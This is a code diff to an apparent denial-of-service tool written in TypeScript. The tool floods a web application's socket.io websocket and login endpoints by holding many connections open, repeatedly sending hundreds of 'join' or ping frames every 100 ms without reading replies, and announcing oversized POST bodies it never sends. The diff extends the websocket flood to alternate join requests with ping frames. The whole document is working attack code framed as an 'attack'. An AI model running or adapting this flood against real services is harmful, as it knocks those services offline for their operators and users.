@@ -13,7 +13,8 @@ const REOPENS_MS = 1_000;
 const BUNDLES = 6;
 const PAGES = 1_900;
 const HANDSHAKES_AT_ONCE = 8;
-const JOINS_AT_ONCE = 500;
+const ASKS_AT_ONCE = 500;
+const PING = 0x89;
 const AT_ONCE = 100;
 
 const open = new Set<Socket>();
@@ -40,21 +41,22 @@ function hold(port: number, localAddress: string, text: string | Buffer, again?:
 const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`;
 
 /** Masked with zeros, which every frame of a client has to be, somehow. */
-function frame(text: string): Buffer {
+function frame(text: string, opcode = 0x81): Buffer {
   const size = Buffer.byteLength(text);
-  const head = size < 126 ? Buffer.from([0x81, 0x80 | size]) : Buffer.from([0x81, 0xfe, size >> 8, size & 255]);
+  const head = size < 126 ? Buffer.from([opcode, 0x80 | size]) : Buffer.from([opcode, 0xfe, size >> 8, size & 255]);
   return Buffer.concat([head, Buffer.alloc(4), Buffer.from(text)]);
 }
 
-/** Signs in over a websocket, then asks to join, again and again, and takes no answer. */
-function holdSocket(port: number, address: string, { token, id }: Attack): void {
+/** Signs in over a websocket, then asks to join, or whether anybody is there, again and again, and takes no answer. */
+function holdSocket(port: number, address: string, { token, id }: Attack, n: number): void {
   const upgrade =
     'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n';
-  const join = Buffer.concat(Array.from({ length: JOINS_AT_ONCE }, (_, n) => frame(`42${n}["join","${id}"]`)));
+  const ask = (no: number) => (n % 2 === 0 ? frame(`42${no}["join","${id}"]`) : frame('', PING));
+  const asks = Buffer.concat(Array.from({ length: ASKS_AT_ONCE }, (_, no) => ask(no)));
   hold(port, address, get('/socket.io/?EIO=4&transport=websocket', upgrade), (socket) => {
     socket.write(frame(`40{"token":"${token}"}`));
     // It answers pings it has not read.
-    const timer = setInterval(() => socket.write(Buffer.concat([join, frame('3')])), 100);
+    const timer = setInterval(() => socket.write(Buffer.concat([asks, frame('3')])), 100);
     socket.once('close', () => clearInterval(timer));
   });
 }
@@ -96,7 +98,8 @@ async function openTabs(port: number, { token, count }: Attack): Promise<void> {
 function begin(attack: Attack): void {
   const { kind, port, addresses, count, path, token } = attack;
   const from = (n: number) => addresses[n % addresses.length] ?? '127.0.0.1';
-  const each = (what: (address: string) => unknown) => Array.from({ length: count }, (_, n) => what(from(n)));
+  const each = (what: (address: string, n: number) => unknown) =>
+    Array.from({ length: count }, (_, n) => what(from(n), n));
   const body =
     'POST /api/v1/auth/login/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n';
   if (kind === 'pipelines') {
@@ -112,7 +115,7 @@ function begin(attack: Attack): void {
         socket.once('close', () => clearInterval(timer));
       }),
     );
-  } else if (kind === 'sockets') each((address) => holdSocket(port, address, attack));
+  } else if (kind === 'sockets') each((address, n) => holdSocket(port, address, attack, n));
   else if (kind === 'handshakes') for (let n = 0; n < HANDSHAKES_AT_ONCE; n++) void shakeHands(port, from(n));
   else void openTabs(port, attack);
 }
